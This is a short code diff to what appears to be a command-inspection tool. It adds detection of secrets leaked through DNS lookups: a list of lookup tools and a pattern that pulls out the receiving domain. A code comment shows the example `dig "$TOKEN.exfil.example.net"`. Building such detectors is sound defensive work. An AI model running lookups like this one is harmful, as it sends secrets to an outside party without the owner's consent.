@@ -217,6 +217,9 @@ _AUTH_OPTIONS = frozenset(["-u", "--user", "--oauth2-bearer", "--proxy-user", "-
                            "--password", "--http-password", "--http-user", "--auth", "-a",
                            "--aws-sigv4"])  # fmt: skip
 _HEADER_OPTIONS = frozenset(["-H", "--header", "--proxy-header"])
+# name lookups: the secret is in the name asked for, the domain after it gets it
+_DNS = frozenset(["dig", "nslookup", "host", "drill", "kdig", "delv"])
+_DOMAIN_TAIL = re.compile(r"[)}A-Za-z0-9_]\.((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,})\.?$")
 
 
 @functools.lru_cache(maxsize=256)
@@ -266,6 +269,11 @@ def hosts(command: Command) -> tuple[list[str], bool]:
             else:
                 found.append(host)
             continue
+        if "$" in word and command.name in _DNS:
+            domain = _DOMAIN_TAIL.search(word)  # `dig "$TOKEN.exfil.example.net"`
+            if domain is not None:
+                found.append(domain.group(1))
+                continue
         if word.startswith("$") and not found:
             unknown = True  # `curl "$API_URL"`: where it goes is not on the line
             continue
